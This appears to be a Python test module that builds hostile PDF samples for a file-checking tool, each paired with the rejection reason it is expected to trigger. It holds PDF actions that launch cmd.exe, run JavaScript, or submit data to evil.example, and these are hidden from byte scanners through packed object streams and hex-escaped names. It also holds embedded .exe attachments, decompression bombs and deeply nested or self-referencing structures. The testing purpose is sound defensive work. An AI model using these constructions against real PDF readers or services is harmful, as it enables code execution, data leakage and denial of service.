"""PDF files by the dozen: every action in every place it can hide, cut, spoilt, endless and knotted."""

import zlib

from tests.files.honest import encoded, pdf_of, sheet, simple_pdf, stream
from tests.files.hostile.kinds import (
    CANARY,
    FOR_THE_TOOL,
    NOT_EVERY_DAY,
    Hostile,
    R,
    archive,
    cut_short,
    spoilt,
    variants,
)

REFUSED = (R.DAMAGED, R.MEMORY, R.TAKES_TOO_LONG, R.TOO_MANY_PAGES, R.ENCRYPTED_PDF)

ACTIONS = {
    "script": b"/S/JavaScript/JS(app.alert\\('%s'\\))",
    "launch": b"/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(%s)>>",
    "another document": b"/S/GoToR/F(\\\\\\\\evil.example\\\\%s)/D[0/Fit]",
    "a document within": b"/S/GoToE/F(%s)/T<</R/C/N(a)>>",
    "an address": b"/S/URI/URI(http://evil.example/%s)",
    "sending a form": b"/S/SubmitForm/F(http://evil.example/%s)/Fields[]",
    "data from outside": b"/S/ImportData/F(/etc/%s)",
    "a film": b"/S/Rendition/R<</S/MR/C<</S/MCD/D(%s)>>>>/OP 0",
    "a sound": b"/S/Sound/Sound(%s)",
    "emptying a form": b"/S/ResetForm/Fields[(%s)]",
    "hiding": b"/S/Hide/T(%s)",
    "a command of the reader": b"/S/Named/N/%s",
    "layers": b"/S/SetOCGState/State[/ON(%s)]",
    "a chain of actions": b"/S/Named/N/Print/Next[<</S/JavaScript/JS(%s)>><</S/Launch/F(a)>>]",
}

OWN_FONT = (
    b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
    b"/Encoding<</Differences[65/a]>>/CharProcs<</a 5 0 R>>/Resources<</Font<</F 4 0 R>>>>>>"
)
"""A font whose one letter is drawn with itself."""


def document_families() -> dict[str, Hostile]:
    plain = simple_pdf(2)
    return {
        **{
            f"{NOT_EVERY_DAY}: {action} {place}": Hostile(data) for action, place, data in actions_in_places()
        },
        **variants("document", cut_short(plain, 9), *REFUSED),
        **variants("document", spoilt(plain, 16), *REFUSED),
        **variants("packed document", spoilt(packed(b""), 10), *REFUSED),
        **{f"carries {name}": Hostile.harmless_or(data, *REFUSED) for name, data in carriers().items()},
        **{f"endless {name}": Hostile.harmless_or(data, *REFUSED) for name, data in endless().items()},
        **locked(),
    }


def actions_in_places() -> list[tuple[str, str, bytes]]:
    made = []
    for name, pattern in ACTIONS.items():
        action = b"<<" + pattern % CANARY + b">>"
        link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 400]/A%s/AA<</E%s>>>>]" % (action, action)
        made.append((name, "on a link", simple_pdf(page=link)))
        made.append((name, "packed away on opening", packed(b"/OpenAction" + action)))
        made.append((name, "in spelt-out names", simple_pdf(catalogue=b"/#4fpenAction" + spelt_out(action))))
    return made


def spelt_out(action: bytes) -> bytes:
    """Names with their letters as numbers, which readers take for the same."""
    for name in (b"JavaScript", b"JS", b"Launch", b"GoToR", b"SubmitForm", b"URI"):
        action = action.replace(b"/" + name, b"/" + b"".join(b"#%02x" % letter for letter in name))
    return action


def packed(catalogue: bytes) -> bytes:
    """A document whose objects lie packed in a stream, out of sight of whoever searches its bytes."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R %s>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R>>",
    ]
    offsets, body = [], b""
    for number, content in enumerate(objects, 1):
        offsets.append(b"%d %d" % (number, len(body)))
        body += content + b" "
    numbers = b" ".join(offsets) + b" "
    file = b"%PDF-1.7\n"
    places = [len(file)]
    drawing = stream(b"1 0 0 rg 20 20 100 60 re f")
    file += b"4 0 obj\n%s\nendobj\n" % drawing
    places.append(len(file))
    content = zlib.compress(numbers + body)
    file += b"5 0 obj\n%s\nendobj\n" % stream(
        content, b"/Type/ObjStm/N 3/First %d/Filter/FlateDecode" % len(numbers)
    )
    places.append(len(file))
    rows = b"\0\0\0\0\0" + b"".join(b"\2\0\0\5" + bytes([index]) for index in range(3))
    rows += b"".join(b"\1" + place.to_bytes(3, "big") + b"\0" for place in places)
    file += b"6 0 obj\n%s\nendobj\n" % stream(rows, b"/Type/XRef/Size 7/W[1 3 1]/Root 1 0 R")
    return file + b"startxref\n%d\n%%%%EOF\n" % places[2]


def carriers() -> dict[str, bytes]:
    attached = stream(CANARY * 50, b"/Type/EmbeddedFile/Subtype/application#2fx-msdownload")
    named = b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]>>>>"
    pinned = b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>]"
    xfa = b"/AcroForm<</Fields[]/XFA[(template)4 0 R(datasets)4 0 R]>>/NeedsRendering true"
    form = stream(
        b"<xdp:xdp><script contentType='application/x-javascript'>" + CANARY + b"</script></xdp:xdp>"
    )
    return {
        "a program": simple_pdf(catalogue=named, others=(attached,)),
        "a pinned program": simple_pdf(page=pinned, others=(attached,)),
        "a portfolio": simple_pdf(catalogue=named + b"/Collection<</View/T>>", others=(attached,)),
        "a form of another kind": simple_pdf(catalogue=xfa, others=(form,)),
        "metadata": simple_pdf(
            catalogue=b"/Metadata 4 0 R", others=(stream(CANARY, b"/Type/Metadata/Subtype/XML"),)
        ),
        "pieces of its maker": simple_pdf(page=b"/PieceInfo<</X<</Private(%s)>>>>" % CANARY),
        "three dimensions": simple_pdf(
            page=b"/Annots[<</Subtype/3D/Rect[0 0 9 9]/3DD 4 0 R>>]", others=(attached,)
        ),
        "a film": simple_pdf(page=b"/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(%s)>>>>]" % CANARY),
        "a screen": simple_pdf(
            page=b"/Annots[<</Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/R(%s)>>>>]" % CANARY
        ),
        "an older self": simple_pdf(catalogue=b"/X(%s)" % CANARY) + simple_pdf()[9:],
        "an archive before it": b"%PDF-1.7\n" + archive() + simple_pdf()[9:],
        "a drawing behind": simple_pdf() + encoded(sheet(), "PNG") + CANARY,
        "a broken photo": with_picture(b"\xff\xd8\xff" + CANARY * 9, b"/Filter/DCTDecode"),
        "a broken fax": with_picture(CANARY * 9, b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 9>>"),
        "a broken scan": with_picture(CANARY * 9, b"/Filter/JBIG2Decode"),
        "a broken picture of the newer kind": with_picture(CANARY * 9, b"/Filter/JPXDecode"),
    }


def with_picture(data: bytes, extra: bytes) -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width 900/Height 900/BitsPerComponent 8/ColorSpace/DeviceRGB"
    return simple_pdf(
        others=(stream(data, head + extra),),
        page=b"/Resources<</XObject<</I 4 0 R>>>>",
        drawing=b"300 0 0 400 0 0 cm /I Do",
    )


def endless() -> dict[str, bytes]:
    filters = b"/Filter[" + b"/FlateDecode" * 200 + b"]"
    deep = b"".join(b"<</A" for _ in range(50_000)) + b">>" * 50_000
    notes = b"/Annots[" + b"<</Subtype/Square/Rect[9 9 99 99]/C[1 0 0]>>" * 20_000 + b"]"
    tile = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.01/YStep 0.01"
    return {
        "pages, three hundred": simple_pdf(300),
        "pages, five thousand": simple_pdf(5000),
        "filters": simple_pdf(others=(stream(b"x", filters),)),
        "words in words": simple_pdf(others=(deep,)),
        "notes": simple_pdf(page=notes),
        f"{FOR_THE_TOOL} tiles": simple_pdf(
            others=(stream(b"0 0 1 1 re f", tile),),
            page=b"/Resources<</Pattern<</P 4 0 R>>>>",
            drawing=b"/Pattern cs /P scn 0 0 300 400 re f",
        ),
        "letters that write themselves": simple_pdf(
            others=(
                OWN_FONT,
                stream(b"9 0 d0 BT /F 9 Tf (AAAA) Tj ET"),
            ),
            page=b"/Resources<</Font<</F 4 0 R>>>>",
            drawing=b"BT /F 9 Tf (AAAA) Tj ET",
        ),
        "tables": simple_pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 0/XRefStm 0"),
        "saves": simple_pdf(drawing=b"q " * 1_000_000),
        f"{FOR_THE_TOOL} shades": simple_pdf(
            page=b"/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function<</FunctionType 4"
            b"/Domain[0 1 0 1]/Range[0 1 0 1 0 1]>>>>>>>>",
            drawing=b"/S sh " * 20_000,
        ),
        "a length it has not": simple_pdf().replace(b"/Length 26", b"/Length 999999999"),
        "references to itself": pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"2 0 R"]),
        "parents": pdf_of(
            [b"<</Type/Catalog/Pages 2 0 R>>"]
            + [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(2, 3000)]
            + [b"<</Type/Page/MediaBox[0 0 9 9]>>"]
        ),
        "numbers": simple_pdf(box=b"0 0 " + b"9" * 5000 + b" 400"),
        "pixels of one picture": with_picture(zlib.compress(b"\0" * 2_430_000 * 20), b"/Filter/FlateDecode"),
    }


def locked() -> dict[str, Hostile]:
    handlers = {
        "of today": b"/Filter/Standard/V 5/R 6/Length 256/P -4/O(%s)/U(%s)/OE(%s)/UE(%s)/Perms(%s)"
        % (b"o" * 48, b"u" * 48, b"e" * 32, b"e" * 32, b"p" * 16),
        "of yesterday": b"/Filter/Standard/V 4/R 4/Length 128/P -4/O(%s)/U(%s)" % (b"o" * 32, b"u" * 32),
        "of a shop": b"/Filter/EBX_HANDLER/V 1/EBX_TITLE(%s)" % CANARY,
        "by a certificate": b"/Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/Recipients[(%s)]" % CANARY,
    }
    return {
        f"locked by a lock {name}": Hostile(
            simple_pdf(others=(b"<<" + handler + b">>",), trailer=b"/Encrypt 4 0 R/ID[(a)(a)]"),
            (R.ENCRYPTED_PDF, R.DAMAGED),
        )
        for name, handler in handlers.items()
    }
